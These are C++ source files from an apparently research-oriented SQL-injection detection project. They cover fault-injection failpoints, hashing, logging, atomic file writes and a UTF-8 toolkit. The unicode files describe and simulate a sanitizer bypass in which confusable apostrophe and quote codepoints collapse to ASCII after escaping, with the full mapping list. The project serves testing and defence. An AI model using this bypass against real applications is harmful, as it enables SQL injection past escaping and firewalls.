  static Registry r;
  return r;
}

void apply_env_once() {
  static std::once_flag once;
  std::call_once(once, [] {
    if (const char* spec = std::getenv("SEPTIC_FAILPOINTS")) {
      arm_from_spec(spec);
    }
  });
}

}  // namespace

bool compiled_in() {
#if defined(SEPTIC_DISABLE_FAILPOINTS)
  return false;
#else
  return true;
#endif
}

void arm(std::string_view name, int64_t times) {
  if (times == 0) {
    disarm(name);
    return;
  }
  auto& r = registry();
  std::lock_guard lock(r.mu);
  auto [it, inserted] = r.points.try_emplace(std::string(name));
  if (inserted || it->second.remaining == 0) {
    r.armed_count.fetch_add(1, std::memory_order_relaxed);
  }
  it->second.remaining = times;
  it->second.hits = 0;
}

void disarm(std::string_view name) {
  auto& r = registry();
  std::lock_guard lock(r.mu);
  auto it = r.points.find(std::string(name));
  if (it == r.points.end()) return;
  if (it->second.remaining != 0) {
    r.armed_count.fetch_sub(1, std::memory_order_relaxed);
  }
  it->second.remaining = 0;
}

void disarm_all() {
  auto& r = registry();
  std::lock_guard lock(r.mu);
  for (auto& [name, p] : r.points) p.remaining = 0;
  r.armed_count.store(0, std::memory_order_relaxed);
}

bool should_fail(std::string_view name) {
  apply_env_once();
  auto& r = registry();
  if (r.armed_count.load(std::memory_order_relaxed) == 0) return false;
  std::lock_guard lock(r.mu);
  auto it = r.points.find(std::string(name));
  if (it == r.points.end() || it->second.remaining == 0) return false;
  ++it->second.hits;
  if (it->second.remaining > 0 && --it->second.remaining == 0) {
    r.armed_count.fetch_sub(1, std::memory_order_relaxed);
  }
  return true;
}

bool any_armed() {
#if defined(SEPTIC_DISABLE_FAILPOINTS)
  return false;
#else
  apply_env_once();
  return registry().armed_count.load(std::memory_order_relaxed) != 0;
#endif
}

uint64_t hit_count(std::string_view name) {
  auto& r = registry();
  std::lock_guard lock(r.mu);
  auto it = r.points.find(std::string(name));
  return it == r.points.end() ? 0 : it->second.hits;
}

std::vector<std::string> armed() {
  auto& r = registry();
  std::lock_guard lock(r.mu);
  std::vector<std::string> out;
  for (const auto& [name, p] : r.points) {
    if (p.remaining != 0) out.push_back(name);
  }
  return out;
}

void arm_from_spec(std::string_view spec) {
  size_t pos = 0;
  while (pos < spec.size()) {
    size_t comma = spec.find(',', pos);
    if (comma == std::string_view::npos) comma = spec.size();
    std::string_view entry = spec.substr(pos, comma - pos);
    pos = comma + 1;
    if (entry.empty()) continue;
    size_t colon = entry.find(':');
    if (colon == std::string_view::npos) {
      arm(entry);
    } else {
      int64_t times =
          std::strtoll(std::string(entry.substr(colon + 1)).c_str(), nullptr, 10);
      arm(entry.substr(0, colon), times == 0 ? -1 : times);
    }
  }
}

}  // namespace septic::common::failpoints

// Failpoint framework: named fault-injection sites compiled into debug and
// test builds so fault-tolerance paths can be exercised deterministically —
// partial writes, torn loads, socket drops mid-frame, detector throws.
//
// A failpoint is a *site* in production code:
//
//   void QmStore::save_to_file(...) {
//     SEPTIC_FAILPOINT("qm_store.save.io_error");      // throws when armed
//     ...
//     SEPTIC_FAILPOINT_HOOK("qm_store.save.partial_write") {
//       out.truncate_half();                           // custom fault body
//     }
//   }
//
// and tests arm it by name:
//
//   common::failpoints::arm("qm_store.save.io_error");       // every hit
//   common::failpoints::arm("net.server.send.drop", 2);      // first 2 hits
//   ...
//   common::failpoints::disarm_all();
//
// Activation is also possible from the environment for whole-process runs:
// SEPTIC_FAILPOINTS="a.b.c,d.e:3" arms `a.b.c` forever and `d.e` 3 times.
//
// Build discipline: sites compile to nothing when SEPTIC_DISABLE_FAILPOINTS
// is defined (the CMake option SEPTIC_ENABLE_FAILPOINTS=OFF — release
// deployments), so shipped binaries carry zero registry lookups. When
// enabled, an un-armed site costs one relaxed atomic load.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace septic::common::failpoints {

/// Thrown by SEPTIC_FAILPOINT sites when armed. Derives from
/// std::runtime_error so it flows through the same recovery paths as real
/// I/O and internal failures.
class FailpointTriggered : public std::runtime_error {
 public:
  explicit FailpointTriggered(const std::string& name)
      : std::runtime_error("failpoint triggered: " + name) {}
};

/// True when failpoint sites are compiled into this binary.
bool compiled_in();

/// Arm a failpoint: it fires on the next `times` evaluations
/// (times < 0 = every evaluation until disarmed).
void arm(std::string_view name, int64_t times = -1);

/// Disarm one failpoint / all failpoints. Hit counters survive disarming
/// (they are reset by arm()).
void disarm(std::string_view name);
void disarm_all();

/// True when the named failpoint is armed and consumes one firing.
/// Production sites call this through the macros below; tests may call it
/// directly to script custom faults.
bool should_fail(std::string_view name);

/// How many times the named site fired since it was last armed.
uint64_t hit_count(std::string_view name);

/// True when at least one failpoint is currently armed (one relaxed atomic
/// load; false in builds with failpoints compiled out). The engine's digest
/// cache consults this to bypass caching entirely while fault injection is
/// active — a cached verdict would skip the very sites a fault test arms.
bool any_armed();

/// Names currently armed (diagnostics).
std::vector<std::string> armed();

/// Parse an activation spec ("name[:times][,name[:times]]...") and arm
/// every entry. The SEPTIC_FAILPOINTS environment variable is applied once,
/// lazily, on the first should_fail() evaluation.
void arm_from_spec(std::string_view spec);

}  // namespace septic::common::failpoints

#if defined(SEPTIC_DISABLE_FAILPOINTS)

#define SEPTIC_FAILPOINT(name) \
  do {                         \
  } while (0)
#define SEPTIC_FAILPOINT_HOOK(name) if constexpr (false)

#else

/// Throw FailpointTriggered when `name` is armed.
#define SEPTIC_FAILPOINT(name)                                    \
  do {                                                            \
    if (::septic::common::failpoints::should_fail(name)) {        \
      throw ::septic::common::failpoints::FailpointTriggered(name); \
    }                                                             \
  } while (0)

/// Run the following statement/block when `name` is armed:
///   SEPTIC_FAILPOINT_HOOK("x.y") { return false; }
#define SEPTIC_FAILPOINT_HOOK(name) \
  if (::septic::common::failpoints::should_fail(name))

#endif  // SEPTIC_DISABLE_FAILPOINTS

// Minimal UTF-8 toolkit plus the character-set conversion behaviour the
// SEPTIC paper's second-order attack exploits.
//
// MySQL converts client text to the connection character set before parsing.
// During that conversion, "confusable" codepoints such as U+02BC (MODIFIER
// LETTER APOSTROPHE) can collapse into a plain ASCII apostrophe — *after*
// application-side sanitization (mysql_real_escape_string) has already run.
// This gap between what the sanitizer saw and what the parser executes is
// the paper's semantic mismatch. `server_charset_convert` reproduces it.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace septic::common {

/// One decoded codepoint and the byte length it occupied.
struct DecodedCp {
  char32_t cp = 0;
  int len = 0;  // bytes consumed; 1 on malformed input (byte passed through)
};

/// Decode the UTF-8 sequence starting at s[i]. Malformed sequences decode as
/// the single byte value (latin-1 style passthrough) with len 1, matching
/// the permissive behaviour of MySQL's converter rather than throwing.
DecodedCp decode_utf8(std::string_view s, size_t i);

/// Encode a codepoint as UTF-8 (up to 4 bytes).
std::string encode_utf8(char32_t cp);

/// Decode a whole string into codepoints (malformed bytes pass through).
std::vector<char32_t> decode_all(std::string_view s);

/// Number of codepoints in the string.
size_t codepoint_count(std::string_view s);

/// The server-side character set conversion applied to incoming statements
/// before lexing. Collapses apostrophe/quote confusables to their ASCII
/// forms:
///   U+02BC MODIFIER LETTER APOSTROPHE  -> '
///   U+2019 RIGHT SINGLE QUOTATION MARK -> '
///   U+FF07 FULLWIDTH APOSTROPHE        -> '
///   U+FF02 FULLWIDTH QUOTATION MARK    -> "
///   U+FF1D FULLWIDTH EQUALS SIGN       -> =
///   U+FF08/U+FF09 FULLWIDTH PARENS     -> ( )
/// Everything else is preserved byte-for-byte.
std::string server_charset_convert(std::string_view s);

/// True if the string contains any codepoint that `server_charset_convert`
/// would rewrite (useful for tests and the WAF-bypass analysis).
bool has_confusable_quote(std::string_view s);

/// Percent-decode (%XX and '+' as space when `plus_as_space`). Invalid
/// escapes are passed through verbatim. Used by the HTTP layer and the WAF's
/// urlDecode transformation.
std::string url_decode(std::string_view s, bool plus_as_space = true);

/// Percent-encode everything except unreserved characters.
std::string url_encode(std::string_view s);

}  // namespace septic::common

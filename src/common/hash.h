// Deterministic, platform-independent hashing used for query identifiers and
// model fingerprints. std::hash is deliberately avoided: its values are not
// stable across implementations, and SEPTIC persists IDs to disk.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace septic::common {

/// 64-bit FNV-1a over bytes.
uint64_t fnv1a(std::string_view bytes);

/// Continue an FNV-1a stream from a previous state.
uint64_t fnv1a(std::string_view bytes, uint64_t state);

/// The FNV-1a initial state (offset basis).
inline constexpr uint64_t kFnvInit = 0xcbf29ce484222325ull;

/// Mix an already-computed 64-bit value into a hash state (length-prefixed
/// so that concatenation ambiguities cannot collide).
uint64_t hash_combine(uint64_t state, uint64_t value);

/// CRC-32 (IEEE 802.3, reflected polynomial 0xEDB88320) over bytes — the
/// per-record integrity check of the persistent QM store. Unlike FNV it
/// detects all burst errors up to 32 bits, which is what torn/truncated
/// writes produce.
uint32_t crc32(std::string_view bytes);

/// Continue a CRC-32 stream from a previous value (start from crc32("")).
uint32_t crc32(std::string_view bytes, uint32_t state);

/// Fixed-width lowercase hex rendering of a 64-bit value.
std::string to_hex(uint64_t v);

/// Fixed-width (8 digit) lowercase hex rendering of a 32-bit value.
std::string to_hex32(uint32_t v);

/// Parse a hex string produced by `to_hex`; returns false on bad input.
bool from_hex(std::string_view s, uint64_t& out);

}  // namespace septic::common

// Clang Thread Safety Analysis annotations, as no-ops everywhere else.
//
// Two enforcement planes cover SEPTIC's locking discipline:
//   - lockcheck (src/analysis/lockcheck/) parses the sources themselves and
//     checks the interprocedural hierarchy in locks.spec — it runs on any
//     toolchain, gcc included, and gates scripts/check.sh.
//   - these annotations let Clang's -Wthread-safety prove the intra-TU
//     guarded-by / requires relationships at compile time; the check.sh
//     `wthread` tier builds with SEPTIC_WTHREAD_SAFETY=ON under clang++
//     and SKIPs when only gcc is available.
//
// libstdc++'s std::mutex is not annotated as a `capability`, so the tier
// compiles with -Wno-thread-safety-attributes and leans on GUARDED_BY /
// REQUIRES, which work with unannotated mutex types.
#pragma once

#if defined(__clang__) && defined(__has_attribute)
#define SEPTIC_THREAD_ANNOTATION(x) __attribute__((x))
#else
#define SEPTIC_THREAD_ANNOTATION(x)
#endif

/// Member may only be read or written while `x` is held.
#define SEPTIC_GUARDED_BY(x) SEPTIC_THREAD_ANNOTATION(guarded_by(x))

/// Pointee (not the pointer) is guarded by `x`.
#define SEPTIC_PT_GUARDED_BY(x) SEPTIC_THREAD_ANNOTATION(pt_guarded_by(x))

/// Function must be called with `...` held exclusively (the `_locked`
/// helper idiom).
#define SEPTIC_REQUIRES(...) \
  SEPTIC_THREAD_ANNOTATION(requires_capability(__VA_ARGS__))

/// Function must be called with `...` held at least shared.
#define SEPTIC_REQUIRES_SHARED(...) \
  SEPTIC_THREAD_ANNOTATION(requires_shared_capability(__VA_ARGS__))

/// Function must NOT be called with `...` held (self-deadlock guard).
#define SEPTIC_EXCLUDES(...) \
  SEPTIC_THREAD_ANNOTATION(locks_excluded(__VA_ARGS__))

/// Declares the acquisition order between two mutex members: this mutex
/// must be taken after `...`. Mirrors the `level` chain in locks.spec.
#define SEPTIC_ACQUIRE_AFTER(...) \
  SEPTIC_THREAD_ANNOTATION(acquired_after(__VA_ARGS__))

/// Escape hatch for functions the analysis cannot follow (thread entry
/// points, test-only backdoors).
#define SEPTIC_NO_THREAD_SAFETY_ANALYSIS \
  SEPTIC_THREAD_ANNOTATION(no_thread_safety_analysis)

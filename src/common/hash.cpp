#include "common/hash.h"

namespace septic::common {

namespace {
constexpr uint64_t kFnvPrime = 0x100000001b3ull;
}

uint64_t fnv1a(std::string_view bytes) { return fnv1a(bytes, kFnvInit); }

uint64_t fnv1a(std::string_view bytes, uint64_t state) {
  for (unsigned char c : bytes) {
    state ^= c;
    state *= kFnvPrime;
  }
  return state;
}

uint64_t hash_combine(uint64_t state, uint64_t value) {
  for (int i = 0; i < 8; ++i) {
    state ^= (value >> (i * 8)) & 0xff;
    state *= kFnvPrime;
  }
  // Length/terminator byte to avoid concatenation ambiguity.
  state ^= 0xfe;
  state *= kFnvPrime;
  return state;
}

namespace {

struct Crc32Table {
  uint32_t t[256];
  Crc32Table() {
    for (uint32_t i = 0; i < 256; ++i) {
      uint32_t c = i;
      for (int k = 0; k < 8; ++k) {
        c = (c & 1) ? 0xedb88320u ^ (c >> 1) : c >> 1;
      }
      t[i] = c;
    }
  }
};

const Crc32Table& crc_table() {
  static const Crc32Table table;
  return table;
}

}  // namespace

uint32_t crc32(std::string_view bytes) { return crc32(bytes, 0); }

uint32_t crc32(std::string_view bytes, uint32_t state) {
  const auto& table = crc_table();
  uint32_t c = state ^ 0xffffffffu;
  for (unsigned char ch : bytes) {
    c = table.t[(c ^ ch) & 0xff] ^ (c >> 8);
  }
  return c ^ 0xffffffffu;
}

std::string to_hex(uint64_t v) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out(16, '0');
  for (int i = 15; i >= 0; --i) {
    out[static_cast<size_t>(i)] = kDigits[v & 0xf];
    v >>= 4;
  }
  return out;
}

std::string to_hex32(uint32_t v) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out(8, '0');
  for (int i = 7; i >= 0; --i) {
    out[static_cast<size_t>(i)] = kDigits[v & 0xf];
    v >>= 4;
  }
  return out;
}

bool from_hex(std::string_view s, uint64_t& out) {
  if (s.empty() || s.size() > 16) return false;
  uint64_t v = 0;
  for (char c : s) {
    int d;
    if (c >= '0' && c <= '9') {
      d = c - '0';
    } else if (c >= 'a' && c <= 'f') {
      d = c - 'a' + 10;
    } else if (c >= 'A' && c <= 'F') {
      d = c - 'A' + 10;
    } else {
      return false;
    }
    v = (v << 4) | static_cast<uint64_t>(d);
  }
  out = v;
  return true;
}

}  // namespace septic::common

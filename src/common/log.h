// Tiny leveled logger for the engine and substrates. SEPTIC's own *event
// register* (septic/logger.h) is separate and structured; this one is for
// human-readable diagnostics.
#pragma once

#include <functional>
#include <mutex>
#include <string>
#include <string_view>

namespace septic::common {

enum class LogLevel { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3 };

/// Process-wide logger. Thread-safe. Default sink is stderr; tests install
/// capture sinks.
class Logger {
 public:
  using Sink = std::function<void(LogLevel, std::string_view)>;

  static Logger& instance();

  void set_level(LogLevel level);
  LogLevel level() const;

  /// Replace the output sink (pass nullptr to restore stderr).
  void set_sink(Sink sink);

  void log(LogLevel level, std::string_view msg);

 private:
  Logger() = default;
  mutable std::mutex mu_;
  LogLevel level_ = LogLevel::kWarn;
  Sink sink_;
};

void log_debug(std::string_view msg);
void log_info(std::string_view msg);
void log_warn(std::string_view msg);
void log_error(std::string_view msg);

}  // namespace septic::common

#include "common/string_util.h"

#include <algorithm>
#include <cctype>

namespace septic::common {

namespace {
constexpr bool is_space(char c) {
  return c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' ||
         c == '\v';
}
constexpr char ascii_lower(char c) {
  return (c >= 'A' && c <= 'Z') ? static_cast<char>(c - 'A' + 'a') : c;
}
constexpr char ascii_upper(char c) {
  return (c >= 'a' && c <= 'z') ? static_cast<char>(c - 'a' + 'A') : c;
}
}  // namespace

std::string to_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), ascii_lower);
  return out;
}

std::string to_upper(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), ascii_upper);
  return out;
}

std::string_view trim(std::string_view s) {
  size_t b = 0;
  size_t e = s.size();
  while (b < e && is_space(s[b])) ++b;
  while (e > b && is_space(s[e - 1])) --e;
  return s.substr(b, e - b);
}

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  size_t start = 0;
  for (size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.emplace_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (size_t i = 0; i < parts.size(); ++i) {
    if (i) out += sep;
    out += parts[i];
  }
  return out;
}

std::string replace_all(std::string_view s, std::string_view from,
                        std::string_view to) {
  if (from.empty()) return std::string(s);
  std::string out;
  out.reserve(s.size());
  size_t pos = 0;
  while (pos < s.size()) {
    size_t hit = s.find(from, pos);
    if (hit == std::string_view::npos) {
      out.append(s.substr(pos));
      break;
    }
    out.append(s.substr(pos, hit - pos));
    out.append(to);
    pos = hit + from.size();
  }
  return out;
}

bool iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (size_t i = 0; i < a.size(); ++i) {
    if (ascii_lower(a[i]) != ascii_lower(b[i])) return false;
  }
  return true;
}

size_t ifind(std::string_view haystack, std::string_view needle) {
  if (needle.empty()) return 0;
  if (needle.size() > haystack.size()) return std::string_view::npos;
  for (size_t i = 0; i + needle.size() <= haystack.size(); ++i) {
    size_t j = 0;
    while (j < needle.size() &&
           ascii_lower(haystack[i + j]) == ascii_lower(needle[j])) {
      ++j;
    }
    if (j == needle.size()) return i;
  }
  return std::string_view::npos;
}

bool icontains(std::string_view haystack, std::string_view needle) {
  return ifind(haystack, needle) != std::string_view::npos;
}

std::string compress_whitespace(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  bool in_ws = false;
  for (char c : s) {
    if (is_space(c)) {
      in_ws = true;
      continue;
    }
    if (in_ws && !out.empty()) out += ' ';
    in_ws = false;
    out += c;
  }
  return out;
}

std::string escape_for_log(std::string_view s) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(s.size());
  for (unsigned char c : s) {
    if (c >= 0x20 && c < 0x7f) {
      out += static_cast<char>(c);
    } else if (c == '\n') {
      out += "\\n";
    } else if (c == '\t') {
      out += "\\t";
    } else {
      out += "\\x";
      out += kHex[c >> 4];
      out += kHex[c & 0xf];
    }
  }
  return out;
}

bool all_digits(std::string_view s) {
  if (s.empty()) return false;
  return std::all_of(s.begin(), s.end(),
                     [](unsigned char c) { return std::isdigit(c) != 0; });
}

}  // namespace septic::common

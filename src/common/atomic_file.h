// Crash-safe file replacement: write-to-temp + fsync + atomic rename(2).
// A reader (or a process restarted after a crash at ANY point inside
// atomic_write_file) sees either the complete old contents or the complete
// new contents — never a torn mixture, never a missing file.
#pragma once

#include <string>
#include <string_view>

namespace septic::common {

/// Atomically replace `path` with `contents`. The bytes are written to
/// `path + ".tmp"`, flushed to stable storage (fsync on the file and its
/// directory), then renamed over `path`. Throws std::runtime_error on any
/// I/O failure; on failure `path` is untouched (a stale `.tmp` may remain
/// and is overwritten by the next attempt).
void atomic_write_file(const std::string& path, std::string_view contents);

/// Plain truncate-and-write with none of the crash-safety — used by tests
/// and failpoint bodies to simulate torn writes. Throws on I/O failure.
void write_file_raw(const std::string& path, std::string_view contents);

/// Read a whole file into a string. Throws std::runtime_error when the
/// file cannot be opened.
std::string read_file(const std::string& path);

}  // namespace septic::common

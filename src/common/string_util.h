// String helpers shared across the project.
//
// All functions are pure and operate on std::string / std::string_view; no
// locale dependence (SQL identifiers and keywords are ASCII-folded only).
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace septic::common {

/// ASCII-only lowercase copy (SQL keywords/identifiers; never touches UTF-8
/// continuation bytes).
std::string to_lower(std::string_view s);

/// ASCII-only uppercase copy.
std::string to_upper(std::string_view s);

/// Strip ASCII whitespace (space, \t, \r, \n, \f, \v) from both ends.
std::string_view trim(std::string_view s);

/// Split on a single character; empty fields are preserved.
std::vector<std::string> split(std::string_view s, char sep);

/// Join with a separator.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

/// Replace every occurrence of `from` (non-empty) with `to`.
std::string replace_all(std::string_view s, std::string_view from,
                        std::string_view to);

/// Case-insensitive (ASCII) equality.
bool iequals(std::string_view a, std::string_view b);

/// Case-insensitive (ASCII) substring search; returns npos when absent.
size_t ifind(std::string_view haystack, std::string_view needle);

/// True if `s` contains `needle` case-insensitively.
bool icontains(std::string_view haystack, std::string_view needle);

/// Collapse runs of ASCII whitespace into a single space (used by the WAF
/// `compressWhitespace` transformation and query fingerprinting).
std::string compress_whitespace(std::string_view s);

/// Printable rendering of arbitrary bytes: non-printable bytes become \xNN.
std::string escape_for_log(std::string_view s);

/// True if every character satisfies isdigit (and s is non-empty).
bool all_digits(std::string_view s);

}  // namespace septic::common

#include "common/unicode.h"

#include <cctype>

namespace septic::common {

DecodedCp decode_utf8(std::string_view s, size_t i) {
  const auto byte = [&](size_t k) -> uint8_t {
    return static_cast<uint8_t>(s[k]);
  };
  uint8_t b0 = byte(i);
  if (b0 < 0x80) return {b0, 1};
  auto cont_ok = [&](size_t k) {
    return k < s.size() && (byte(k) & 0xc0) == 0x80;
  };
  if ((b0 & 0xe0) == 0xc0 && cont_ok(i + 1)) {
    char32_t cp = (char32_t(b0 & 0x1f) << 6) | (byte(i + 1) & 0x3f);
    if (cp >= 0x80) return {cp, 2};
  } else if ((b0 & 0xf0) == 0xe0 && cont_ok(i + 1) && cont_ok(i + 2)) {
    char32_t cp = (char32_t(b0 & 0x0f) << 12) |
                  (char32_t(byte(i + 1) & 0x3f) << 6) | (byte(i + 2) & 0x3f);
    if (cp >= 0x800) return {cp, 3};
  } else if ((b0 & 0xf8) == 0xf0 && cont_ok(i + 1) && cont_ok(i + 2) &&
             cont_ok(i + 3)) {
    char32_t cp = (char32_t(b0 & 0x07) << 18) |
                  (char32_t(byte(i + 1) & 0x3f) << 12) |
                  (char32_t(byte(i + 2) & 0x3f) << 6) | (byte(i + 3) & 0x3f);
    if (cp >= 0x10000 && cp <= 0x10ffff) return {cp, 4};
  }
  // Malformed: pass the byte through as its own codepoint.
  return {b0, 1};
}

std::string encode_utf8(char32_t cp) {
  std::string out;
  if (cp < 0x80) {
    out += static_cast<char>(cp);
  } else if (cp < 0x800) {
    out += static_cast<char>(0xc0 | (cp >> 6));
    out += static_cast<char>(0x80 | (cp & 0x3f));
  } else if (cp < 0x10000) {
    out += static_cast<char>(0xe0 | (cp >> 12));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3f));
    out += static_cast<char>(0x80 | (cp & 0x3f));
  } else {
    out += static_cast<char>(0xf0 | (cp >> 18));
    out += static_cast<char>(0x80 | ((cp >> 12) & 0x3f));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3f));
    out += static_cast<char>(0x80 | (cp & 0x3f));
  }
  return out;
}

std::vector<char32_t> decode_all(std::string_view s) {
  std::vector<char32_t> out;
  out.reserve(s.size());
  for (size_t i = 0; i < s.size();) {
    DecodedCp d = decode_utf8(s, i);
    out.push_back(d.cp);
    i += d.len;
  }
  return out;
}

size_t codepoint_count(std::string_view s) {
  size_t n = 0;
  for (size_t i = 0; i < s.size();) {
    i += decode_utf8(s, i).len;
    ++n;
  }
  return n;
}

namespace {
/// Maps confusable codepoints to their ASCII collapse, or 0 when unmapped.
constexpr char confusable_ascii(char32_t cp) {
  switch (cp) {
    case 0x02bc:  // MODIFIER LETTER APOSTROPHE (the paper's example)
    case 0x2019:  // RIGHT SINGLE QUOTATION MARK
    case 0x2018:  // LEFT SINGLE QUOTATION MARK
    case 0xff07:  // FULLWIDTH APOSTROPHE
      return '\'';
    case 0x201c:  // LEFT DOUBLE QUOTATION MARK
    case 0x201d:  // RIGHT DOUBLE QUOTATION MARK
    case 0xff02:  // FULLWIDTH QUOTATION MARK
      return '"';
    case 0xff1d:  // FULLWIDTH EQUALS SIGN
      return '=';
    case 0xff08:  // FULLWIDTH LEFT PARENTHESIS
      return '(';
    case 0xff09:  // FULLWIDTH RIGHT PARENTHESIS
      return ')';
    case 0xff0c:  // FULLWIDTH COMMA
      return ',';
    case 0xff1b:  // FULLWIDTH SEMICOLON
      return ';';
    default:
      return 0;
  }
}
}  // namespace

std::string server_charset_convert(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (size_t i = 0; i < s.size();) {
    DecodedCp d = decode_utf8(s, i);
    if (char a = confusable_ascii(d.cp); a != 0) {
      out += a;
    } else {
      out.append(s.substr(i, d.len));
    }
    i += d.len;
  }
  return out;
}

bool has_confusable_quote(std::string_view s) {
  for (size_t i = 0; i < s.size();) {
    DecodedCp d = decode_utf8(s, i);
    if (confusable_ascii(d.cp) != 0) return true;
    i += d.len;
  }
  return false;
}

namespace {
int hex_val(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}
}  // namespace

std::string url_decode(std::string_view s, bool plus_as_space) {
  std::string out;
  out.reserve(s.size());
  for (size_t i = 0; i < s.size(); ++i) {
    char c = s[i];
    if (c == '+' && plus_as_space) {
      out += ' ';
    } else if (c == '%' && i + 2 < s.size()) {
      int hi = hex_val(s[i + 1]);
      int lo = hex_val(s[i + 2]);
      if (hi >= 0 && lo >= 0) {
        out += static_cast<char>((hi << 4) | lo);
        i += 2;
      } else {
        out += c;
      }
    } else {
      out += c;
    }
  }
  return out;
}

std::string url_encode(std::string_view s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  out.reserve(s.size() * 3);
  for (unsigned char c : s) {
    bool unreserved = std::isalnum(c) || c == '-' || c == '_' || c == '.' ||
                      c == '~';
    if (unreserved) {
      out += static_cast<char>(c);
    } else {
      out += '%';
      out += kHex[c >> 4];
      out += kHex[c & 0xf];
    }
  }
  return out;
}

}  // namespace septic::common

#include "common/atomic_file.h"

#include <fcntl.h>
#include <unistd.h>

#include "common/failpoint.h"

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <stdexcept>

namespace septic::common {

namespace {

[[noreturn]] void fail(const std::string& what, const std::string& path) {
  throw std::runtime_error(what + " failed for " + path + ": " +
                           std::strerror(errno));
}

void write_all(int fd, std::string_view contents, const std::string& path) {
  size_t done = 0;
  while (done < contents.size()) {
    ssize_t w = ::write(fd, contents.data() + done, contents.size() - done);
    if (w < 0) {
      if (errno == EINTR) continue;
      ::close(fd);
      fail("write", path);
    }
    done += static_cast<size_t>(w);
  }
}

}  // namespace

void atomic_write_file(const std::string& path, std::string_view contents) {
  const std::string tmp = path + ".tmp";
  int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) fail("open", tmp);
  write_all(fd, contents, tmp);
  if (::fsync(fd) < 0) {
    ::close(fd);
    fail("fsync", tmp);
  }
  if (::close(fd) < 0) fail("close", tmp);
  SEPTIC_FAILPOINT("atomic_file.rename");
  if (::rename(tmp.c_str(), path.c_str()) < 0) fail("rename", tmp);
  // Persist the rename itself: fsync the containing directory. A crash
  // between the rename and the directory fsync may surface either the old
  // or the new file after reboot — both are complete, consistent images,
  // which is the whole point of the tmp+rename dance.
  SEPTIC_FAILPOINT("atomic_file.dir_fsync");
  size_t slash = path.find_last_of('/');
  std::string dir = slash == std::string::npos ? "." : path.substr(0, slash);
  if (dir.empty()) dir = "/";
  int dfd = ::open(dir.c_str(), O_RDONLY | O_DIRECTORY);
  if (dfd >= 0) {
    // Directory fsync is best-effort: some filesystems refuse it, and the
    // rename is already durable on the common ones that matter.
    (void)::fsync(dfd);
    ::close(dfd);
  }
}

void write_file_raw(const std::string& path, std::string_view contents) {
  std::ofstream out(path, std::ios::trunc | std::ios::binary);
  if (!out) throw std::runtime_error("cannot write " + path);
  out.write(contents.data(),
            static_cast<std::streamsize>(contents.size()));
  if (!out) throw std::runtime_error("write failed: " + path);
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error("cannot read " + path);
  std::stringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

}  // namespace septic::common

#include "common/log.h"

#include <cstdio>

namespace septic::common {

Logger& Logger::instance() {
  static Logger logger;
  return logger;
}

void Logger::set_level(LogLevel level) {
  std::lock_guard lock(mu_);
  level_ = level;
}

LogLevel Logger::level() const {
  std::lock_guard lock(mu_);
  return level_;
}

void Logger::set_sink(Sink sink) {
  std::lock_guard lock(mu_);
  sink_ = std::move(sink);
}

void Logger::log(LogLevel level, std::string_view msg) {
  std::lock_guard lock(mu_);
  if (level < level_) return;
  if (sink_) {
    sink_(level, msg);
    return;
  }
  static constexpr const char* kNames[] = {"DEBUG", "INFO", "WARN", "ERROR"};
  std::fprintf(stderr, "[%s] %.*s\n", kNames[static_cast<int>(level)],
               static_cast<int>(msg.size()), msg.data());
}

void log_debug(std::string_view msg) {
  Logger::instance().log(LogLevel::kDebug, msg);
}
void log_info(std::string_view msg) {
  Logger::instance().log(LogLevel::kInfo, msg);
}
void log_warn(std::string_view msg) {
  Logger::instance().log(LogLevel::kWarn, msg);
}
void log_error(std::string_view msg) {
  Logger::instance().log(LogLevel::kError, msg);
}

}  // namespace septic::common
